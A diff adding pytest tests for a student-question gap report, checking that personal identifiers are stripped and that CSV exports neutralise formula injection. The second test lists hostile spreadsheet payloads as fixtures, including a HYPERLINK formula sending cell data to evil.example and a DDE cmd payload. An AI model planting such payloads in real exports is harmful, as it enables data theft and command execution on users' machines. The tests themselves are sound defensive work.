@@ -91,3 +91,47 @@ def test_retention_prunes_old_lines_and_only_reviewers_see_insights(tiny_engine,
         insights.overview(STUDENT)
     with pytest.raises(PermissionDenied):
         insights.gaps(STUDENT)
+
+
+# -- issue 27: what reviewers see of other users' questions ---------------------------------------
+
+PERSONAL = [
+    ("I am CS21B1034, mail me at priya.sharma@example.edu: can I defer my exam?", ["CS21B1034", "priya.sharma"]),
+    ("My name is Priya Sharma, call +91 98765 43210 about the hostel curfew", ["Priya", "98765"]),
+    ("Born 12/03/2004, roll number 2104567890: is the late fee waived?", ["12/03/2004", "2104567890"]),
+]
+
+
+def test_reviewers_see_questions_without_obvious_personal_data(tiny_engine, tmp_path):
+    """Finding 8: numbers, e-mail addresses and identifiers are taken out of the gap questions,
+    the table and the CSV alike; the topic (and amounts such as Rs. 5,000) stays."""
+    path = tiny_engine.config.query_log_path
+    questions = [q for q, _ in PERSONAL] + ["Is the Rs. 5,000 hostel deposit refundable in 30 days?"]
+    path.write_text("\n".join(_line(q, "abstain", 0.2) for q in questions) + "\n", encoding="utf-8")
+    groups = knowledge_gaps(path, tiny_engine.index)
+    shown = " ".join(q.question for g in groups for q in g.questions)
+    out = tmp_path / "gaps.csv"
+    write_gaps_csv(groups, out)
+    for text in (shown, out.read_text(encoding="utf-8")):
+        for _, personal in PERSONAL:
+            assert not [p for p in personal if p in text], text
+        assert "hostel curfew" in text and "Rs. 5,000" in text and "30 days" in text
+
+
+def test_the_csv_export_neutralises_formulas(tmp_path):
+    """Finding 7: a question that starts like a formula opens as text in a spreadsheet."""
+    from governance.insights import GapGroup, GapQuestion
+
+    hostile = [
+        '=HYPERLINK("https://evil.example/?"&A1,"fee")',
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(A1:A9)",
+        "  =1+1",
+        "\t=1+1",
+    ]
+    groups = [GapGroup(1, [GapQuestion(q, 0.2, "2026-01-01T00:00:00Z", "fees §2") for q in hostile])]
+    out = tmp_path / "gaps.csv"
+    write_gaps_csv(groups, out)
+    cells = [row["question"] for row in csv.DictReader(out.open(encoding="utf-8", newline=""))]
+    assert cells == ["'" + q for q in hostile]
